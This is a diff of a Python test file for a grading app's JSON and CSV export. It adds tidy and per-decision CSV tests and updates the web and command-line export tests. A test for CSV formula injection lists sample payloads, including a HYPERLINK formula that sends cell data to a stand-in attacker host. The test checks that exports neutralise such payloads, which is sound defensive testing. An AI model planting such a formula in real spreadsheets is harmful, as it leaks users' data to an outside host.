@@ -11,6 +11,7 @@ import pytest
 from fastapi.testclient import TestClient
 from sqlalchemy.orm import Session
 
+from app import spreadsheet
 from app.cli import main as cli_main
 from app.db import get_sessionmaker
 from app.reviews import export
@@ -132,12 +133,58 @@ def test_export_records_every_field(session: Session) -> None:
     assert (blind["status"], blind["final_total"], blind["graders"]) == ("pending", None, [])
 
 
-def test_csv_and_json_round_trip(session: Session) -> None:
+def test_json_round_trip(session: Session) -> None:
     _finalized(session)
     _open(session)
     records = export.export_records(session)
     assert json.loads(export.to_json(records)) == records
-    assert export.from_csv(export.to_csv(records)) == records
+
+
+def _csv(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_the_tidy_csv_has_a_row_per_submission_and_a_column_per_bug(session: Session) -> None:
+    final_id, grader = _finalized(session)
+    open_id = _open(session)
+    records = export.export_records(session, assessment="llm-gateway-client")
+    rows = {int(r["submission"]): r for r in _csv(export.to_tidy_csv(records))}
+    assert len(rows) == len(records)
+    final = rows[final_id]
+    assert (final["auto_detection"], final["final_detection"], final["final_total"]) == (
+        "50.0",
+        "75.0",
+        "80.0",
+    )
+    key = "llm-gateway-client/"
+    # Confirmed, rejected, added: what the auto-grader found and what the grade counts.
+    assert final[f"auto_found:{key}cache-key-ignores-params"] == "yes"
+    assert final[f"final_found:{key}cache-key-ignores-params"] == "yes"
+    assert final[f"auto_found:{key}stream-retry-duplicates"] == "yes"
+    assert final[f"final_found:{key}stream-retry-duplicates"] == "no"
+    assert final[f"auto_found:{key}stream-usage-lost"] == "no"
+    assert final[f"final_found:{key}stream-usage-lost"] == "yes"
+    assert final["graders"] == grader and final["candidate"] == "Ada Lovelace"
+    blind = rows[open_id]
+    assert blind["candidate"] == "" and blind[f"final_found:{key}cache-key-ignores-params"] == ""
+    assert not [c for row in rows.values() for c in row.values() if c.startswith(("[", "{"))]
+
+
+def test_the_long_csv_has_a_row_per_decision(session: Session) -> None:
+    final_id, grader = _finalized(session)
+    records = [r for r in export.export_records(session) if r["submission"] == final_id]
+    rows = _csv(export.to_decisions_csv(records))
+    assert [(r["kind"], r["item"], r["comment"], r["verdict"]) for r in rows] == [
+        ("match", "cache-key-ignores-params", "0", "confirmed"),
+        ("match", "stream-retry-duplicates", "1", "rejected"),
+        ("match", "stream-usage-lost", "2", "added"),
+        ("flag", "rewrite", "1", "dismissed"),
+        ("override", "tool_taste", "", ""),
+        ("finalize", "grade", "", ""),
+    ]
+    assert rows[4]["value"] == "100.0"
+    assert rows[4]["reason"] == "Names the needless layer,\nand says why."
+    assert rows[5]["value"] == "80.0" and rows[5]["decided_by"] == grader
 
 
 def test_export_from_the_web(client: TestClient, session: Session) -> None:
@@ -151,14 +198,18 @@ def test_export_from_the_web(client: TestClient, session: Session) -> None:
     assert "attachment" in as_json.headers["content-disposition"]
     as_csv = client.get("/staff/export.csv?assessment=llm-gateway-client")
     assert as_csv.headers["content-type"].startswith("text/csv")
-    assert export.from_csv(as_csv.text) == as_json.json()
+    assert {int(r["submission"]) for r in _csv(as_csv.text)} == {
+        r["submission"] for r in as_json.json()
+    }
+    decisions = client.get("/staff/export-decisions.csv?assessment=llm-gateway-client")
+    assert decisions.status_code == 200 and decisions.text.startswith("submission,public_id")
     assert final_id in {r["submission"] for r in as_json.json()}
     assert client.get("/staff/export.json?assessment=docs-rag").json() == [
         r for r in export.export_records(session, assessment="docs-rag")
     ]
 
 
-@pytest.mark.parametrize("fmt", ["csv", "json"])
+@pytest.mark.parametrize("fmt", ["csv", "decisions", "json"])
 def test_export_command(
     fmt: str, tmp_path: Path, engine: object, capsys: pytest.CaptureFixture[str]
 ) -> None:
@@ -171,14 +222,19 @@ def test_export_command(
         )
         == 0
     )
-    text = out.read_text()
-    records = export.from_csv(text) if fmt == "csv" else json.loads(text)
+    text = out.read_bytes().decode("utf-8")  # as written: CSV rows end in CRLF
     with get_sessionmaker()() as db:
-        assert records == export.export_records(db, assessment="llm-gateway-client")
+        records = export.export_records(db, assessment="llm-gateway-client")
+    writers = {"csv": export.to_tidy_csv, "decisions": export.to_decisions_csv}
+    assert text == (writers[fmt](records) if fmt in writers else export.to_json(records))
     assert final_id in {r["submission"] for r in records}
     assert cli_main(["export", "--format", fmt, "--assessment", "no-such-slug"]) == 0
     printed = capsys.readouterr().out
-    assert printed.strip() in ("[]", ",".join(export.COLUMNS))
+    assert printed.strip() in (
+        "[]",
+        ",".join([*export.FLAT_COLUMNS, "graders"]),
+        ",".join(export.DECISION_COLUMNS),
+    )
 
 
 FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
@@ -193,7 +249,7 @@ def test_csv_cells_never_start_a_formula(session: Session, name: str) -> None:
     assert decision is not None
     records = [r for r in export.export_records(session) if r["submission"] == submission.id]
     assert [r["candidate"] for r in records] == [name]
-    text = export.to_csv(records)
-    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
-    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
-    assert export.from_csv(text) == records
+    for text in (export.to_tidy_csv(records), export.to_decisions_csv(records)):
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert spreadsheet.restore(_csv(export.to_tidy_csv(records))[0]["candidate"]) == name
